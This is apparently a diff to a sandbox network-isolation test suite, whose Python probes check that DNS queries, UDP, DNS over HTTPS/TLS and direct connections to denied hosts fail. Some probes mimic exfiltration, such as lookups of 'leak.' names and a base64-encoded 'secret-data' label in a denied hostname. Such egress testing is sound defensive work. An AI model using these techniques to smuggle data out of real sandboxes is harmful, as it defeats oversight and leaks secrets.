@@ -54,6 +54,8 @@ def tls(host, sni=None, authority=None, alpn=None):
     return c.wrap_socket(s, server_hostname=sni if sni is not None else host)
 def ask(lines, host="${ALLOWED}", **more):
     return raw("\\r\\n".join([*lines, "Connection: close", "", ""]), tls(host, **more))
+def send(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); return f"sent {s.sendto(bytes(30), (host, port))}"
 def first(text): return text.split("\\r\\n")[0].split("\\n")[0] if text else "(closed)"
 def attempt(call):
     try: return first(str(call()))
@@ -64,7 +66,7 @@ const program = (family: string, expected: RegExp, programs: Readonly<Record<str
   Object.entries(programs).map(([name, code]) => ({ family, name, code, expected }))
 
 const NO_NAME =
-  /gaierror|herror|Error|is not available in this sandbox|ENOTFOUND|EAI_AGAIN|ESERVFAIL|ECONNREFUSED|-1|^$|Network is unreachable|Nothing|no network|403|400|timed/
+  /^((gaierror|herror): .+|(OSError: )?HTTP\/1\.1 403 .+|OSError: \[Errno 101\] Network is unreachable|-1|exit status 2|\w+ is not available in this sandbox.*|EAI_AGAIN|ECONNREFUSED)$/
 const REFUSED = /^HTTP\/1\.1 (403|400) |HTTP\/1\.1 (403|400) |SSL|ConnectionReset|\(closed\)|EOF|Error/
 const FORBIDDEN = /HTTP\/1\.1 403 /
 
@@ -72,14 +74,14 @@ const DNS = program('names', NO_NAME, {
   getaddrinfo: `print(attempt(lambda: socket.getaddrinfo("leak.${DENIED}", 443)))`,
   gethostbyname: `print(attempt(lambda: socket.gethostbyname("leak.${DENIED}")))`,
   'reverse lookup': `print(attempt(lambda: socket.gethostbyaddr("8.8.8.8")))`,
-  'UDP to port 53': `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print(attempt(lambda: s.sendto(b"\\0" * 30, ("8.8.8.8", 53))) if False else attempt(lambda: s.connect(("8.8.8.8", 53))))`,
+  'UDP to port 53': `print(attempt(lambda: send("8.8.8.8", 53)))`,
   'TCP to port 53': `print(attempt(lambda: socket.create_connection(("8.8.8.8", 53), 3)))`,
   'IPv6 to port 53': `print(attempt(lambda: socket.create_connection(("2001:4860:4860::8888", 53), 3)))`,
   'res_query of the C library': `lib = ctypes.CDLL("libresolv.so.2"); print(getattr(lib, "res_query", lib.__res_query if hasattr(lib, "__res_query") else None)(b"leak.${DENIED}", 1, 1, ctypes.create_string_buffer(512), 512))`,
-  getent: `print(subprocess.run(["getent", "hosts", "leak.${DENIED}"], capture_output=True, text=True).stdout)`,
-  'nslookup and dig': `print(subprocess.run("nslookup leak.${DENIED} 8.8.8.8; dig @8.8.8.8 leak.${DENIED}", shell=True, capture_output=True, text=True).stderr or "Error")`,
+  getent: `print("exit status", subprocess.run(["getent", "hosts", "leak.${DENIED}"]).returncode)`,
+  'nslookup and dig': `print(subprocess.run("nslookup leak.${DENIED} 8.8.8.8; dig @8.8.8.8 leak.${DENIED}", shell=True, capture_output=True, text=True).stderr)`,
   'lookup and resolve of Node': `print(subprocess.run(["node", "-e", "const d = require('dns'); d.lookup('leak.${DENIED}', (e) => console.log(e.code)); d.resolve4('leak.${DENIED}', (e) => console.log(e.code))"], capture_output=True, text=True).stdout)`,
-  'multicast DNS': `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print(attempt(lambda: s.connect(("224.0.0.251", 5353))))`,
+  'multicast DNS': `print(attempt(lambda: send("224.0.0.251", 5353)))`,
   'DNS over HTTPS': `print(attempt(lambda: tls("cloudflare-dns.com")))`,
   'DNS over TLS': `print(first(connect("1.1.1.1:853")[1]))`,
   'data in the name of a denied host': `print(first(connect("c2VjcmV0LWRhdGE.${DENIED}:443")[1]))`,
@@ -117,7 +119,7 @@ const RAW = program('other ways out', /HTTP\/1\.1 (400|403) |Error|\(closed\)|re
   'FTP address': `print(first(raw("GET ftp://${ALLOWED}/ HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nConnection: close\\r\\n\\r\\n")))`,
   'HTTPS address without a tunnel': `print(first(raw("GET https://${ALLOWED}/read/x HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nConnection: close\\r\\n\\r\\n")))`,
   'a direct connection': `print(attempt(lambda: socket.create_connection(("93.184.215.14", 443), 3)))`,
-  'UDP for QUIC': `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print(attempt(lambda: s.connect(("93.184.215.14", 443))))`,
+  'UDP for QUIC': `print(attempt(lambda: send("93.184.215.14", 443)))`,
   vsock: `print(attempt(lambda: socket.socket(40, socket.SOCK_STREAM)))`,
   'final dot and upper case of a denied host': `print(first(connect("DENIED.EXAMPLE.COM.:443")[1]))`,
 })
